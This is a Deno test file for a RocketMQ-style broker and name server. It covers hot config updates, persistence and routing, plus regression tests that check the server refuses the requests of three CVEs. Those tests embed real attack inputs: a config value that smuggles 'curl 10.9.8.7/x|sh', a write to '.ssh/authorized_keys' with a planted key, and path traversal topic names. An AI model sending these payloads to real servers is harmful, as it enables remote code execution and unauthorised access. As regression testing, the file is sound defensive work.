import assert from "node:assert/strict";
import net from "node:net";
import { BrokerFixture, FIXTURE_STORE } from "../../testdata/broker_fixture.ts";
import { sendFields } from "../../testdata/message_path.ts";
import { parseFastJson } from "../../store/fast_json.ts";
import { NameServer } from "../namesrv/namesrv.ts";
import { parseTopicRoute } from "../wire/route.ts";
import { defaultBrokerConfig } from "./broker_config.ts";
import { HOT_SETTINGS, liveBrokerSettings } from "./hot_settings.ts";

const HOST = { hostname: "broker-a", address: "10.0.0.5" };
const OPEN = { updateBrokerConfigEnable: true };

function bytes(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

/** Sends bytes to a port and gives back what is answered to the first frame. */
async function rawAnswer(address: string, sent: Uint8Array): Promise<Record<string, unknown>> {
  const [host, port] = address.split(":");
  const socket = net.connect(Number(port), host);
  try {
    const chunks: Uint8Array[] = [];
    return await new Promise((resolve, reject) => {
      socket.on("error", reject);
      socket.on("close", () => reject(new Error("The connection was closed")));
      socket.on("data", (chunk) => {
        chunks.push(chunk);
        const all = Buffer.concat(chunks);
        if (all.length < 4 || all.length < 4 + all.readUInt32BE(0)) return;
        resolve(JSON.parse(all.toString("utf8", 8, 8 + (all.readUInt32BE(4) & 0xffffff))));
      });
      socket.write(sent);
    });
  } finally {
    socket.removeAllListeners("close");
    socket.destroy();
  }
}

/** A frame as an attacker makes it: length, header length, JSON header, body. */
function handMadeFrame(header: string, body: string): Uint8Array {
  const bodyBytes = Buffer.from(body);
  const headerBytes = Buffer.from(header);
  const lengths = Buffer.alloc(8);
  lengths.writeUInt32BE(4 + headerBytes.length + bodyBytes.length, 0);
  lengths.writeUInt32BE(headerBytes.length, 4);
  return Buffer.concat([lengths, headerBytes, bodyBytes]);
}

Deno.test("HOT_SETTINGS names settings there are, and not the one that opens them", () => {
  const config = defaultBrokerConfig(HOST);
  for (const key of Object.keys(HOT_SETTINGS)) assert(Object.hasOwn(config, key), key);
  assert(!("updateBrokerConfigEnable" in HOT_SETTINGS));
});

Deno.test("liveBrokerSettings() refuses values a broker would not start with", () => {
  const initial = { ...defaultBrokerConfig(HOST), ...OPEN };
  const options = { save: undefined, log: () => {}, now: () => 0 };
  const settings = liveBrokerSettings(initial, options);
  for (const text of ["brokerPermission=8", "deleteWhen=25", "fileReservedTime=-1"]) {
    assert.throws(() => settings.update(bytes(text), "x"), {
      code: "INVALID_PARAMETER",
      message: /^Cannot change settings: \w+ is .+, expected /,
    });
  }
  assert.deepEqual(settings.current, initial);
});

Deno.test("Broker refuses the requests of CVE-2023-33246, as they were sent", async () => {
  await using it = await BrokerFixture.start();
  const header = `{"code":25,"flag":0,"language":"JAVA","opaque":0,` +
    `"serializeTypeCurrentRPC":"JSON","version":395}`;
  const attack = "filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl 10.9.8.7/x|sh;\n";
  const answer = await rawAnswer(it.peer, handMadeFrame(header, attack));
  assert.equal(answer["code"], 16);
  assert.match(String(answer["remark"]), /^Settings cannot be changed over the network/);
  // Whoever opens the door does not open it for that.
  await using open = await BrokerFixture.start({ config: OPEN });
  const refused = await rawAnswer(open.peer, handMadeFrame(header, attack));
  assert.equal(refused["code"], 16);
  assert.equal(refused["remark"], "Cannot change filterServerNums: there is no such setting");
});

Deno.test("NameServer refuses the requests of CVE-2023-37582, as they were sent", async () => {
  for (const updateNamesrvConfigEnable of [false, true]) {
    await using nameServer = await NameServer.listen({
      hostname: "127.0.0.1",
      port: 0,
      stopTimeoutMs: 20,
      updateNamesrvConfigEnable,
    });
    const header = `{"code":318,"flag":0,"language":"JAVA","opaque":0,` +
      `"serializeTypeCurrentRPC":"JSON","version":401}`;
    const attack = "configStorePath=/x/.ssh/authorized_keys\nproductEnvName=x\\nssh-rsa AAAA\n";
    const answer = await rawAnswer(nameServer.peer, handMadeFrame(header, attack));
    assert.equal(answer["code"], 16);
  }
});

Deno.test("Broker refuses the topics of CVE-2019-17572, and no folder is made for them", async () => {
  await using it = await BrokerFixture.start();
  for (const topic of ["../../../../x", "..", "a/b", "a\\b", "/etc", "a\u0000b"]) {
    const header = JSON.stringify({
      code: 310,
      flag: 0,
      language: "JAVA",
      opaque: 7,
      serializeTypeCurrentRPC: "JSON",
      version: 395,
      extFields: { ...sendFields(), b: topic },
    });
    const sent = await rawAnswer(it.peer, handMadeFrame(header, "x"));
    assert.notEqual(sent["code"], 0, topic);
    const created = await it.ask("UPDATE_AND_CREATE_TOPIC", {
      header: {
        topic,
        defaultTopic: "TBW102",
        readQueueNums: 1,
        writeQueueNums: 1,
        perm: 6,
        topicFilterType: "SINGLE_TAG",
        order: false,
      },
    });
    assert.notEqual(created.code, 0, topic);
  }
  assert.deepEqual(it.fs.list("/").filter((name) => `/${name}` !== FIXTURE_STORE), []);
  assert.deepEqual(it.fs.list(`${FIXTURE_STORE}/consumequeue`), []);
});

Deno.test("UPDATE_BROKER_CONFIG changes what holds for the next request", async () => {
  await using it = await BrokerFixture.start({ config: OPEN, now: () => 5000 });
  const send = () =>
    it.ask("SEND_MESSAGE_V2", { extFields: sendFields({ topic: "New" }), body: new Uint8Array(1) });
  const off = await it.ask("UPDATE_BROKER_CONFIG", { body: bytes("autoCreateTopicEnable=false") });
  assert.equal(off.code, 0, off.remark);
  assert.equal((await send()).code, 17);
  assert.equal(it.broker.config.autoCreateTopicEnable, false);
  const { extFields, body } = await it.ask("GET_BROKER_CONFIG");
  assert.deepEqual(parseFastJson(extFields?.["version"] ?? ""), { counter: 1, timestamp: 5000 });
  assert.match(new TextDecoder().decode(body), /^autoCreateTopicEnable=false$/m);
  await it.ask("UPDATE_BROKER_CONFIG", { body: bytes("autoCreateTopicEnable=true") });
  assert.equal((await send()).code, 0);
  assert(it.told.some((line) => /^127\.0\.0\.1:\d+ changed settings: autoCreate/.test(line)));
});

Deno.test("UPDATE_BROKER_CONFIG makes the default topic where creation is switched on", async () => {
  await using it = await BrokerFixture.start({ config: { ...OPEN, autoCreateTopicEnable: false } });
  const send = () =>
    it.ask("SEND_MESSAGE_V2", { extFields: sendFields({ topic: "New" }), body: new Uint8Array(1) });
  assert.equal((await send()).code, 17);
  await it.ask("UPDATE_BROKER_CONFIG", { body: bytes("autoCreateTopicEnable=true") });
  assert.equal((await send()).code, 0);
});

Deno.test("UPDATE_BROKER_CONFIG of brokerPermission changes the routes at once", async () => {
  await using nameServer = await NameServer.listen({ hostname: "127.0.0.1", port: 0 });
  await using it = await BrokerFixture.start({ config: { ...OPEN, namesrvAddr: nameServer.peer } });
  await it.ask("SEND_MESSAGE_V2", { extFields: sendFields(), body: new Uint8Array(1) });
  const update = await it.ask("UPDATE_BROKER_CONFIG", { body: bytes("brokerPermission=4") });
  assert.equal(update.code, 0, update.remark);
  const asked = { name: "GET_ROUTEINFO_BY_TOPIC", extFields: { topic: "TBW102" } } as const;
  const perm = async () => {
    const route = await it.client.invoke(nameServer.peer, asked, { timeoutMs: 5000 });
    return parseTopicRoute(route.body).queueDatas[0]?.perm;
  };
  // The answer does not wait for name servers, which may be down.
  for (let round = 0; round < 200 && await perm() !== 4; round++) {
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  assert.equal(await perm(), 4);
});

Deno.test("UPDATE_BROKER_CONFIG is kept where the broker is told to, or not made", async () => {
  const saved: unknown[] = [];
  await using it = await BrokerFixture.start({
    config: OPEN,
    saveSettings(changes) {
      if ("deleteWhen" in changes) throw new Error("disk full");
      saved.push(changes);
    },
  });
  const good = await it.ask("UPDATE_BROKER_CONFIG", { body: bytes("fileReservedTime=24\n") });
  assert.equal(good.code, 0);
  const bad = await it.ask("UPDATE_BROKER_CONFIG", { body: bytes("deleteWhen=05\n") });
  assert.deepEqual([bad.code, bad.remark], [1, "Cannot change settings: disk full"]);
  assert.deepEqual(saved, [{ fileReservedTime: 24 }]);
  assert.equal(it.broker.config.deleteWhen, "04");
});
